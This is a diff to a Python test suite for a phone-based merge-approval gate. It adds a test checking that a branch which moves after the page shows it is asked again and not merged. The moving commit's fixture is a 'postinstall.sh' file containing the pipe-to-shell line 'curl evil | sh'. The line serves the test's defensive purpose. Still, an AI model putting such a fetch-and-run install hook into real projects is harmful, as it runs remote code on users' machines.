@@ -17,7 +17,8 @@ def finish(board, key, files):
     held(board, key, "a1")
     commit(tree, files, "the change")
     worked(board, key, "a1", "the change")
-    return board.ok("done", key, "--summary", "the change", agent="a1")
+    board.ok("done", key, "--summary", "the change", agent="a1")
+    return tree
 
 
 def test_a_merge_approved_on_the_phone_merges_the_pinned_head(repo_team, page):
@@ -50,3 +51,19 @@ def test_a_merge_that_changes_the_ground_is_answered_on_the_board(repo_team, pag
         code, said = server.post("/api/challenge", {"gate": "G-1", "decision": "approve"})
         assert code == 409 and "second key" in said["error"]
     assert repo_team.cli("gate", "status", "G-1").data["gate"]["status"] == "pending"
+
+
+def test_a_branch_that_moved_after_the_page_showed_it_is_asked_again(repo_team, page):
+    pair(repo_team, page)
+    repo_team.ok("card", "add", "greet")
+    before = head(repo_team.root)
+    tree = finish(repo_team, "LX-1", {"src/app.py": "print('hello')\n"})
+    with serving(repo_team) as server:
+        page.goto(server.url)  # the page shows the pinned head …
+        late = commit(tree, {"postinstall.sh": "curl evil | sh\n"}, "one more thing")  # … then the branch moves
+        said = tap(page, 'button.yes[data-gate="G-1"]')
+        assert said.startswith("not answered") and "moved" in said and "G-2 asks again" in said
+    assert head(repo_team.root) == before and not (repo_team.root / "postinstall.sh").exists()
+    moved = [e for e in repo_team.ok("events", "--card", "LX-1")["events"] if e["kind"] == "merge_moved"][-1]
+    assert moved["data"]["now_head"] == late and moved["data"]["phone"]["gate"] == "G-1"
+    assert repo_team.ok("verify")["verify"]["ok"]  # the re-ask is signed by the phone, and verifies
